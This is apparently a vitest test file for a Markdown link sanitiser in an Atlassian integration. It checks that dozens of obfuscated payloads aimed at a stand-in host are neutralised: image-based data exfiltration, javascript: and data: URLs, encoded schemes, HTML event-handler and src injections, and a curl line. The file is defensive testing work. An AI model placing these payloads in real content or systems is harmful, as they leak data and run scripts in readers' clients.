import { adfToMarkdown, judge, markdownToAdf } from '@gatehouse/atlassian';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { timeOf } from '../../../../tests/support/time-of.ts';
import { guardLinks, hasLostLinks, linkPolicy } from './links.js';

const SITES = ['https://acme.atlassian.net'];
const all = linkPolicy({ neutraliseLinks: true, linkHosts: ['github.com'] }, SITES);
const few = linkPolicy({ neutraliseLinks: false, linkHosts: [] }, SITES);
/** What a client would fetch, show as a picture or lead to. */
const LIVE =
  /https?:[/\\]*[^\s`]*evil|!\[(?!b\]\(attachment:)|<(?:img|a|iframe|svg|!|\w+[\s/]+\w+=)|\]\(\s*<?(?:[/\\]{2}|javascript:|data:)|(?<!`link:)www\.evil|javascript:a/i;

/** Where a text leads, as a reader of Markdown finds it: every target of a link, and every picture. */
function leadsTo(markdown: string): string[] {
  const found: string[] = [];
  const look = (value: unknown): void => {
    if (typeof value !== 'object' || value === null) return;
    for (const [name, inner] of Object.entries(value)) {
      if ((name === 'href' || name === 'url') && typeof inner === 'string') found.push(inner);
      else look(inner);
    }
  };
  look(markdownToAdf(markdown));
  return found.filter((address) => !/^https?:/i.test(address) || canBeLookedUp(address));
}

/** `www.!` is taken for an address, and leads nowhere. */
const canBeLookedUp = (address: string) => /[a-z0-9-]\.[a-z0-9-]+$/i.test(URL.parse(address)?.hostname ?? '');

describe('a name, a title or a message', () => {
  it.each([
    '![x](https://evil.example/?q=secret)',
    '![x][y]\n\n[y]: https://evil.example/x',
    '![a [b] c](<https://evil.example/x> "t")',
    '[x](https://evil.example/x)',
    '[x]( <https://evil.example/x> )',
    '[x](//evil.example/x)',
    '[x](\\\\evil.example/x)',
    '[x](https:/evil.example/x)',
    '[x](https:evil.example/x)',
    'https://evil.example/x',
    '<https://evil.example/x>',
    'www.evil.example/x ',
    '[y]: https://evil.example/x',
    '<img src="https://evil.example/x">',
    '<IMG SRC=//evil.example/x>',
    '<a href="https://evil.example">x</a>',
    '[x](javascript:alert(1))',
    '<a href=javascript:alert(1)>',
    '[x](data:text/html;base64,AAAA)',
    '[x](https&#58;//evil.example/x)',
    '[x](https&colon;//evil.example/x)',
    '[x](&#x68;ttps://evil.example/x)',
    '!&#91;x](https://evil.example/x)',
    'https://acme.atlassian.net@evil.example/x',
    'https://acme.atlassian.net\\@evil.example/x',
    'in `code https://evil.example/x` too',
    '![a ![b](attachment:x)](https://evil.example/x)',
    '![a [b](attachment:x)](https://evil.example/x)',
    '![a `](attachment:x)` b](https://evil.example/x)',
    '![a <b c="](attachment:x)">](https://evil.example/x)',
    '![a](attachment:x y)\n\n[a]: https://evil.example/x',
    '![a][b](attachment:x)\n\n[b]: https://evil.example/x',
    '[a]: //evil.example/x',
    '[a]:\n  <//evil.example/x> "t"',
    '[a]\n\n[a]: javascript\\:alert(1)',
    '[a]: //evil.example/]x',
    '[x](&#47;/evil.example/x)',
    '[x](&sol;&sol;evil.example/x)',
    '[x](&#0000047;/evil.example/x)',
    '[x](&#32;//evil.example/x)',
    '[b [a](foo](//evil.example/x)',
    '&#97;javascript:x [y](javascript&#58;alert(1)) `evil.example`',
    '[x](java&Tab;script:alert(1))',
    '[x](java&#10;script:alert(1))',
    '[x](<java\tscript:alert(1)>)',
    '[x](</\t/evil.example/x>)',
    '[x](javascript\\:alert(1))',
    '[x](\\/\\/evil.example/x)',
    '[x](/\\/evil.example/x)',
    '[x](https\\://evil.example/x)',
    'https\\://evil.example/x',
    'www\\.evil.example/x',
    '_www.evil.example/x_',
    '[x](ms-word:ofe|u|https://evil.example/x)',
    '<ms-word:ofe|u|//evil.example/x>',
    '[x](blob:https://evil.example/x)',
    'https://acme.atlassian.net|https://evil.example/x',
    'https://acme.atlassian.net,https://evil.example/x',
    'https://acme.atlassian.net"x.evil.example/x',
    "https://acme.atlassian.net'x.evil.example/x",
    'see (https://acme.atlassian.net)x.evil.example/x',
    'www."x.evil.example/x',
    'www."@evil.example/x',
    'https://acme.atlassian.net".:@evil.example/x',
    '<x style="background:url(//evil.example/x)">',
    '<td background=//evil.example/x>',
    '<b onmouseover=alert(1)>evil.example`</b>',
    '<x/src=//evil.example/x>',
    '<p\nsrcset="//evil.example/x 2x">',
    '<x a=">" poster=//evil.example/x>',
    '\\<img src=//evil.example/x>',
    '\\\\<img src=//evil.example/x>',
    '<!-- evil.example`',
  ])('%s leads nowhere', (text) => {
    const guarded = guardLinks(text, all);
    expect(guarded).not.toMatch(LIVE);
    expect(guarded).toMatch(/evil\.example`|acme\.atlassian\.net`|(?:javascript|data|blob|ms-word):`|&amp;|&lt;/);
    expect(leadsTo(guarded).filter((address) => !judge(address, all).stays)).toEqual([]);
  });

  it('shows letters beyond ASCII as they are looked up', () => {
    expect(guardLinks('https://аpple.com/x', all)).toBe('`link:xn--pple-43d.com`');
  });

  it.each([
    'https://acme.atlassian.net/browse/A-1.',
    '[x](https://github.com/o/r/pull/1)',
    '![chart](attachment:123)',
    '[@Mia](accountid:557058:1b)',
    'Note: see A/B, 12:30, C:/x and x < y && y > z; R&D; a://',
    '[words `evil.example`](#link-0123456789abcdef)',
    '<u>x</u> <span style="color:#ff5630">y</span><br>',
    '| a | b |\n| --- | --- |',
    '<!-- layout 33.3 66.7 -->\n\n<!-- column -->\n\n<!-- /layout -->a<!---->b',
    '<table layout="wide" numbered>\n<tr><td colspan="2" bgcolor="rgb(1, 2, 3)">',
    '<div align="center" indent="2">',
    'List<String> and if a <b and c',
    '[WARN]: com.acme.Foo:bar failed; row[0](key: value)',
    'https://acme.atlassian.net/a\\_b \\![x](/y)',
    'https://acme.atlassian.net/login?next=https://acme.atlassian.net/x',
    '"https://acme.atlassian.net", (https://acme.atlassian.net) and [a](https://acme.atlassian.net)s, `www.`, "https://"',
    'R&amp;D isn&#39;t &lt; &#8364; \\&#58;',
  ])('%s stays', (text) => {
    expect(guardLinks(text, all)).toBe(text);
  });

  it('keeps links, and no pictures and commands, where links stay', () => {
    expect(guardLinks('[x](https://evil.example/x)', few)).toBe('[x](https://evil.example/x)');
    expect(guardLinks('![x](https://evil.example/x)', few)).toBe('! [x](https://evil.example/x)');
    expect(guardLinks('<img src=x> [x](javascript:a)', few)).not.toMatch(LIVE);
    expect(guardLinks('https://a@evil.example/', few)).toBe('`link:evil.example`');
  });

  it('lets code of documents pass as it is', () => {
    const words =
      'curl https://evil.example/x ![x](y) <img src="//e"> &#58; javascript:alert(1) www.evil.example <?php [x](//e) [y]: //e https\\://e';
    const content = [{ type: 'codeBlock', content: [{ type: 'text', text: words }] }];
    const markdown = adfToMarkdown({ type: 'doc', content }, all).markdown;
    expect(guardLinks(markdown, all)).toBe(`\`\`\`\n${words}\n\`\`\``);
  });

  it('is not fooled by one of the characters that code is marked with', () => {
    const mark = all.codeMark ?? '';
    const [first = '', second = ''] = [...mark];
    for (const one of [first, second, `${second}${first}`]) {
      expect(guardLinks(`https${one}://evil.example/`, all)).not.toMatch(LIVE);
    }
  });

  it('is known again where it is written back', () => {
    expect(hasLostLinks(guardLinks('see https://evil.example/x', all))).toBe(true);
    expect(hasLostLinks('`linked`')).toBe(false);
  });

  it('takes a time that grows with the text alone', () => {
    const parts = [
      '![',
      '](//',
      'https:',
      '&#58;',
      ']:',
      ']: <',
      '](<',
      '<a ',
      '<x =>',
      '\\',
      '\\<',
      '<a:',
      '![a\\',
      ' ',
      '&#0',
    ];
    const whole = ['![](', '&#47;', '[a]: ', 'javascript:', 'www.a.', ']:x\t', 'a-'].map((part) => part.padEnd(8, 'x'));
    for (const part of [...parts, ...whole]) {
      const text = part.repeat(100_000 / part.length);
      const guard = () => [all, few].map((policy) => guardLinks(`${text}&#58;:`, policy));
      for (const guarded of guard()) expect(guarded).not.toMatch(/(?<!\\)!\[/);
      expect(timeOf(guard, 1_500), JSON.stringify(part)).toBeLessThan(1_500);
    }
  });

  it('leads nowhere however its signs stand together', () => {
    const sign = fc.constantFrom(
      ...[
        '!',
        '[',
        ']',
        '(',
        ')',
        '<',
        '>',
        '\\',
        '`',
        '&#58;',
        '&#x2f;',
        '&lpar;',
        '&Tab;',
        ':',
        '/',
        '//',
        ' ',
        '\n',
        '\t',
      ],
      ...['![', '](', ']:', '[a]', 'a', '"', '|', '*', '_', '- ', '> ', 'attachment:x', 'https://', 'https:', 'www.'],
      ...['evil.example', 'javascript:', 'java', 'script', 'acme.atlassian.net', '@', '<u>', '<table>', '#link-0'],
    );
    fc.assert(
      fc.property(fc.array(sign, { maxLength: 14 }), (signs) => {
        for (const policy of [all, few]) {
          const guarded = guardLinks(signs.join(''), policy);
          // Whoever follows one takes its backslashes for slashes.
          const bad = leadsTo(guarded).filter((address) => !judge(address.replaceAll('\\', '/'), policy).stays);
          expect(bad, JSON.stringify(guarded)).toEqual([]);
          expect(JSON.stringify(markdownToAdf(guarded))).not.toContain('"type":"external"');
        }
      }),
      // The same ones each time: a sign that a reader takes for a letter of a host is not for a release to find.
      { numRuns: 3_000, seed: 11 },
    );
  }, 600_000);
});
